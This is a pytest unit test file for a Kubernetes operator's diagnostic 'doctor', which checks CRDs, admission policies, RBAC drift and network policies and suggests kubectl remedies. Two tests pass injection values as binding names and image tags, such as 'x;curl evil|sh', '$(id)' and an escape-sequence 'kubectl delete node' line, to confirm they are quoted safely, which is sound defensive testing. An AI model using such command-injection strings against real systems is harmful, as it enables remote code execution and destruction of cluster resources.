"""What stands still in a cluster: definition, namespace, rights, policies, parts."""

import shlex
from dataclasses import replace
from typing import Any

import pytest

from podiatrist.doctor.examine import examine, is_broken
from podiatrist.doctor.installation import Binding, Installation, Version
from podiatrist.doctor.rights import NOBODY, Right, Rights, username
from podiatrist.doctor.verdict import Hidden, Level, Verdict
from tests.unit.doctor.installations import (
    COMMON,
    CRD_KEY,
    complaint,
    complaints,
    edited,
    well,
    without,
    workload,
)


def test_of_an_installation_that_is_well_the_doctor_has_nothing_to_say() -> None:
    assert complaints(well()) == []
    assert not is_broken(examine(well()))


def broken(installation: Installation, seen: str, remedy: str) -> Verdict:
    found = complaint(installation)
    assert (found.level, found.remedy) == (Level.BROKEN, remedy)
    assert seen in found.seen
    assert is_broken(examine(installation))
    return found


def with_crd(**changes: Any) -> Installation:
    good = well()
    crd = good.found[CRD_KEY]
    assert isinstance(crd, dict)
    return replace(good, found={**good.found, CRD_KEY: {**crd, **changes}})


def test_a_cluster_without_podiatrist_gets_one_remedy_and_not_thirty() -> None:
    good = well()
    nothing = replace(good, found=dict.fromkeys(good.found))
    broken(nothing, "not installed", "kubectl apply -f deploy")


def test_a_missing_definition_is_made_anew() -> None:
    good = well()
    gone = replace(good, found={**good.found, CRD_KEY: None})
    broken(gone, "diagnoses.podiatrist.dev", "podiatrist crd | kubectl apply -f -")


def test_a_definition_that_the_api_server_did_not_take_in_says_why() -> None:
    refused = [{"type": "Established", "status": "False", "message": "the name is taken"}]
    broken(with_crd(status={"conditions": refused}), "the name is taken",
           "kubectl describe crd diagnoses.podiatrist.dev")  # fmt: skip


def test_a_definition_of_another_version_is_told_by_its_first_difference() -> None:
    good = well()
    crd = good.found[CRD_KEY]
    assert isinstance(crd, dict)
    schema = crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
    del schema["properties"]["status"]["properties"]["usage"]
    said = broken(good, "status.properties.usage", "podiatrist crd | kubectl apply -f -").seen
    assert "another schema" in said


def test_pods_in_our_namespace_are_held_to_pod_security() -> None:
    lax = edited("Namespace", "podiatrist", lambda o: o["metadata"].update(labels={}))
    found = complaint(lax)
    assert found.level is Level.WARNING
    assert found.remedy == (
        "kubectl label --overwrite namespace podiatrist "
        "pod-security.kubernetes.io/enforce=restricted"
    )


@pytest.mark.parametrize(
    ("kind", "name", "remedy"),
    [
        ("ValidatingAdmissionPolicy", "podiatrist-approval", "30-admission.yaml"),
        ("ValidatingAdmissionPolicy", "podiatrist-status", "30-admission.yaml"),
        ("ValidatingAdmissionPolicy", "podiatrist-executor", "30-admission.yaml"),
        ("ValidatingAdmissionPolicy", "podiatrist-switch", "30-admission.yaml"),
        ("ValidatingAdmissionPolicyBinding", "podiatrist-approval", "30-admission.yaml"),
        ("MutatingAdmissionPolicy", "podiatrist-stamp", "31-stamp.yaml"),
        ("MutatingAdmissionPolicyBinding", "podiatrist-stamp", "31-stamp.yaml"),
        ("ServiceAccount", "executor", "executor.yaml"),
        ("ClusterRole", "podiatrist-read", "10-read.yaml"),
        ("ClusterRoleBinding", "podiatrist-operator", "operator.yaml"),
        ("RoleBinding", "operator", "operator.yaml"),
    ],
)
def test_what_is_missing_is_applied_again(kind: str, name: str, remedy: str) -> None:
    broken(without(kind, name), f"{kind} {name} is missing", f"kubectl apply -f deploy/{remedy}")


def test_a_binding_that_only_audits_denies_nothing() -> None:
    def audit(binding: Any) -> None:
        binding["spec"]["validationActions"] = ["Audit"]

    lax = edited("ValidatingAdmissionPolicyBinding", "podiatrist-approval", audit)
    broken(lax, "validationActions is ['Audit']", "kubectl apply -f deploy/30-admission.yaml")


def test_a_policy_that_fails_open_is_none() -> None:
    lax = edited("ValidatingAdmissionPolicy", "podiatrist-status",
                 lambda o: o["spec"].update(failurePolicy="Ignore"))  # fmt: skip
    broken(lax, "failurePolicy is Ignore", "kubectl apply -f deploy/30-admission.yaml")


def test_a_policy_is_as_shipped_with_what_the_api_server_fills_in() -> None:
    def fill_in(policy: Any) -> None:
        constraints = policy["spec"]["matchConstraints"]
        constraints |= {"matchPolicy": "Equivalent", "objectSelector": {}}
        constraints["resourceRules"][0]["scope"] = "*"

    assert not complaints(edited("ValidatingAdmissionPolicy", "podiatrist-status", fill_in))


def test_a_policy_that_was_taken_off_a_namespace_was_changed() -> None:
    def except_shop(policy: Any) -> None:
        policy["spec"]["matchConstraints"]["namespaceSelector"] = {"matchLabels": {"a": "b"}}

    lax = edited("ValidatingAdmissionPolicy", "podiatrist-approval", except_shop)
    broken(lax, "spec.matchConstraints.namespaceSelector",
           "kubectl apply -f deploy/30-admission.yaml")  # fmt: skip


def test_a_policy_one_expression_of_which_was_weakened_was_changed() -> None:
    def weaken(policy: Any) -> None:
        policy["spec"]["validations"][2]["expression"] = "true"

    lax = edited("ValidatingAdmissionPolicy", "podiatrist-approval", weaken)
    broken(lax, "spec.validations[2].expression", "kubectl apply -f deploy/30-admission.yaml")


def test_a_policy_that_lost_one_rule_was_changed() -> None:
    lax = edited("ValidatingAdmissionPolicy", "podiatrist-approval",
                 lambda o: o["spec"]["validations"].pop())  # fmt: skip
    broken(lax, "was changed: spec.validations", "kubectl apply -f deploy/30-admission.yaml")


def test_an_older_kubernetes_needs_no_stamp_but_is_told_of() -> None:
    old = replace(without("MutatingAdmissionPolicy", "podiatrist-stamp"), server=Version(1, 34))
    found = complaint(old)
    assert found.level is Level.WARNING
    assert "1.36" in found.seen
    assert "podiatrist.dev/approved-by" in (found.remedy or "")


def test_a_kubernetes_without_policies_will_not_do() -> None:
    assert complaint(replace(well(), server=Version(1, 28))).level is Level.BROKEN


def test_a_role_that_grants_more_than_was_shipped_is_named_with_the_right() -> None:
    rule = {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}
    lax = edited("ClusterRole", "podiatrist-executor", lambda o: o["rules"].append(rule))
    broken(
        lax, "grants more than was shipped: get secrets", "kubectl apply -f deploy/executor.yaml"
    )


def test_a_role_that_lost_a_right_is_named_with_it() -> None:
    poor = edited("ClusterRole", "podiatrist-operator", lambda o: o["rules"].pop(1))
    broken(poor, "lacks update diagnoses/status.podiatrist.dev",
           "kubectl apply -f deploy/operator.yaml")  # fmt: skip


def test_a_right_is_the_same_however_its_rules_are_cut() -> None:
    def split(role: Any) -> None:
        rule = role["rules"][0]
        role["rules"][:1] = [{**rule, "verbs": [verb]} for verb in rule["verbs"]]

    assert not complaints(edited("ClusterRole", "podiatrist-operator", split))


def test_a_binding_that_was_not_shipped_is_to_be_deleted() -> None:
    good = well()
    assert isinstance(good.bindings, list)
    subject = {"kind": "ServiceAccount", "namespace": "podiatrist", "name": "executor"}
    more = Binding("RoleBinding", "shop", "help", "ClusterRole admin", [subject])
    strange = replace(good, bindings=[*good.bindings, more])
    said = broken(strange, "RoleBinding help gives ClusterRole admin",
                  "kubectl -n shop delete rolebinding help").seen  # fmt: skip
    assert "to ServiceAccount podiatrist/executor" in said


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("x;curl evil|sh", ["x;curl evil|sh"]),
        ("$(id)'`id`", ["$(id)'`id`"]),
        ("--all", ["--", "--all"]),
        ("x\n\x1b[2Kkubectl delete node a", ["x\ufffd\ufffd[2Kkubectl delete node a"]),
    ],
)
def test_a_name_that_is_a_command_is_one_word_of_the_remedy(name: str, words: list[str]) -> None:
    """Whoever may bind in his own namespace chooses the name, and an admin types the remedy."""
    good = well()
    assert isinstance(good.bindings, list)
    subject = {"kind": "ServiceAccount", "namespace": "podiatrist", "name": "executor"}
    more = Binding("RoleBinding", "shop", name, "ClusterRole view", [subject])
    remedy = complaint(replace(good, bindings=[*good.bindings, more])).remedy
    assert remedy is not None
    assert remedy.isprintable()
    assert shlex.split(remedy) == ["kubectl", "-n", "shop", "delete", "rolebinding", *words]


def test_an_image_that_is_a_command_names_no_version() -> None:
    image = "podiatrist:1.0;curl evil|sh"
    both = {role: workload(role, image=image) for role in ("operator", "executor")}
    assert not complaints(replace(well(), workloads=both))


def test_a_binding_that_names_somebody_else_as_well_is_told_of() -> None:
    other = {"kind": "User", "name": "eve"}
    lax = edited("ClusterRoleBinding", "podiatrist-executor",
                 lambda o: o["subjects"].append(other))  # fmt: skip
    broken(lax, "names User eve as well", "kubectl apply -f deploy/executor.yaml")


def test_a_binding_to_another_role_cannot_be_changed_only_made_anew() -> None:
    other = edited("ClusterRoleBinding", "podiatrist-operator",
                   lambda o: o["roleRef"].update(name="cluster-admin"))  # fmt: skip
    broken(other, "grants ClusterRole cluster-admin",
           "kubectl delete clusterrolebinding podiatrist-operator && "
           "kubectl apply -f deploy/operator.yaml")  # fmt: skip


def test_what_only_the_api_server_knows_is_told_but_not_what_everybody_may() -> None:
    good = well()
    user = username("operator")
    secret = Right("default", "get", "secrets")
    everybody = Right("default", "get", "clustertrustbundles")
    seen = good.effective[user]
    assert isinstance(seen, frozenset)
    grown = seen | {secret, everybody}
    given = replace(good, effective={**good.effective, user: grown,
                                     NOBODY: frozenset({everybody})})  # fmt: skip
    said = broken(given, "lets operator do more than was shipped: get secrets",
                  f"kubectl auth can-i --list --as={user} -n podiatrist").seen  # fmt: skip
    assert "clustertrustbundles" not in said


def bound_to_all(rights: Rights | Hidden, namespace: str = "shop") -> Installation:
    """Return the installation after somebody bound a role to everybody in a namespace."""
    good = well()
    assert isinstance(good.bindings, list)
    group = {"kind": "Group", "name": "system:authenticated"}
    more = Binding("RoleBinding", namespace, "help", "ClusterRole x", [group], rights)
    return replace(good, bindings=[*good.bindings, more])


@pytest.mark.parametrize(
    "right",
    [
        Right("shop", "patch", "deployments.apps"),
        Right("shop", "*", "*.*"),
        Right("shop", "create", "pods"),
        Right("shop", "get", "secrets"),
        Right("shop", "list", "*"),
    ],
)
def test_what_is_bound_to_everybody_is_bound_to_us(right: Right) -> None:
    found = complaint(bound_to_all(frozenset({right})))
    assert found.level is Level.WARNING
    assert f"RoleBinding help grants to every account, and so to ours: {right.told}" in found.seen
    assert found.remedy == "kubectl -n shop get -o yaml rolebinding help"


def test_what_every_kubernetes_grants_to_everybody_is_no_news() -> None:
    assert not complaints(bound_to_all(COMMON))


def test_a_role_for_everybody_that_cannot_be_read_may_grant_anything() -> None:
    found = complaint(bound_to_all(Hidden("get roles -n shop")))
    assert (found.level, found.seen) == (
        Level.UNKNOWN, "cannot tell: you may not get roles -n shop"
    )  # fmt: skip


def test_what_the_api_server_lets_everybody_change_is_a_warning_without_a_binding() -> None:
    good = well()
    write = Right("default", "delete", "pods")
    lax = {user: rights | {write} for user, rights in good.effective.items()
           if isinstance(rights, frozenset)}  # fmt: skip
    found = complaint(replace(good, effective=lax))
    assert found.level is Level.WARNING
    assert "lets every account, and so ours: delete pods in namespace default" in found.seen


def test_who_cannot_ask_in_our_accounts_names_is_told_that_he_cannot_tell() -> None:
    good = well()
    hidden = Hidden("impersonate serviceaccounts -A")
    found = complaint(replace(good, effective=dict.fromkeys(good.effective, hidden)))
    assert (found.check, found.level) == ("rights", Level.UNKNOWN)
    assert found.remedy == "kubectl auth can-i impersonate serviceaccounts -A"


def test_without_the_executors_file_podiatrist_only_diagnoses_and_that_is_a_choice() -> None:
    good = well()
    gone = {m.key: None for m in good.shipped if m.file == "executor.yaml"}
    left = replace(
        good,
        found={**good.found, **gone},
        workloads={**good.workloads, "executor": None},
        bindings=[b for b in good.bindings if "executor" not in b.name]
        if isinstance(good.bindings, list)
        else good.bindings,
    )
    found = complaint(left)
    assert (found.check, found.level) == ("execution", Level.NOTE)
    assert "only diagnoses" in found.seen


def test_what_the_user_may_not_look_at_is_said_and_not_guessed() -> None:
    good = well()
    roles = {m.key: Hidden("get clusterroles.rbac.authorization.k8s.io")
             for m in good.shipped if m.kind.kind == "ClusterRole"}  # fmt: skip
    found = complaint(replace(good, found={**good.found, **roles}))
    assert found.level is Level.UNKNOWN
    assert found.seen == "cannot tell: you may not get clusterroles.rbac.authorization.k8s.io"
    assert found.remedy == "kubectl auth can-i get clusterroles.rbac.authorization.k8s.io"


def test_a_user_who_may_not_look_at_anything_sees_nothing_broken() -> None:
    good = well()
    hidden = Hidden("get anything")
    blind = replace(
        good,
        found=dict.fromkeys(good.found, hidden),
        bindings=hidden,
        effective=dict.fromkeys(good.effective, hidden),
        workloads={"operator": hidden, "executor": hidden},
        pods=hidden,
        leases={"operator": hidden, "executor": hidden},
        switch=hidden,
        switched_off=hidden,
        diagnoses=hidden,
    )
    assert {verdict.level for verdict in complaints(blind)} == {Level.UNKNOWN}


def test_a_network_policy_that_is_missing_is_a_warning() -> None:
    found = complaint(without("NetworkPolicy", "default-deny"))
    assert found.level is Level.WARNING
    assert "NetworkPolicy default-deny is missing" in found.seen
    assert found.remedy == "kubectl apply -f deploy/40-network.yaml"
